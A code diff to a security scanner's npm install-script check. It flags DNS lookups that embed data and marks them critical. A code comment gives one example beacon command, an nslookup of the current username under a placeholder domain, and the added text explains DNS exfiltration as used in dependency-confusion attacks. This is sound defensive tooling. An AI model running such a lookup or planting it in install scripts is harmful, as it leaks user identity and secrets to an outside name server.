@@ -1,3 +1,4 @@
+import { dnsLookupInShell } from '../../ecosystems/code/dns-exfiltration.js';
 import { displayVersion } from '../../ecosystems/diff.js';
 import type { KeyedFinding } from '../../ecosystems/finding.js';
 import { makeFinding } from '../../ecosystems/finding.js';
@@ -52,14 +53,17 @@ function manifestInstallScripts(file: ParsedFile): KeyedFinding[] {
     // hooks it installs are repository files, judged by their own rules.
     const hookSetup = scriptId === 'npm-install-script' && isHookSetupScript(script, sides.head.scripts ?? {});
     const shown = script.length > 200 ? `${script.slice(0, 200)}…` : script;
+    // Data written into the name of a DNS lookup (`nslookup "$(whoami).x.tld"`): a beacon or exfiltration on every install.
+    const dns = hookSetup ? null : dnsLookupInShell(script);
     findings.push(
       makeFinding({
         id: scriptId,
-        severity: hookSetup ? 'low' : 'high',
+        severity: hookSetup ? 'low' : dns !== null ? 'critical' : 'high',
         title: `${changed ? 'Changed' : 'New'} install script "${name}" in ${baseNameOf(file.path)}${hookSetup ? ' (git-hook setup)' : ''}`,
         detail: hookSetup
           ? `${file.path} ${changed ? 'changes' : 'adds'} "${name}", which runs on every install but only sets up a git-hook manager; the hooks it installs are files of the repository: ${shown}`
-          : `${file.path} ${changed ? 'changes' : 'adds'} "${name}", which runs automatically on every install, on developer machines and in CI: ${shown}`,
+          : `${file.path} ${changed ? 'changes' : 'adds'} "${name}", which runs automatically on every install, on developer machines and in CI: ${shown}` +
+            (dns !== null ? ` It looks up a name built from ${dns.data === 'identity' ? "the user's name" : dns.data === 'encoded' ? 'encoded data' : dns.data === 'secret' ? 'a secret' : 'the environment'} under ${dns.domain}: the lookup itself carries that to the domain's name server (DNS exfiltration, the dependency-confusion beacons' way).` : ''),
         path: file.path,
         line: lineOf(headContent, `"${name}"`) ?? lineOf(headContent, name) ?? lineOf(headContent, script),
         subject: name,
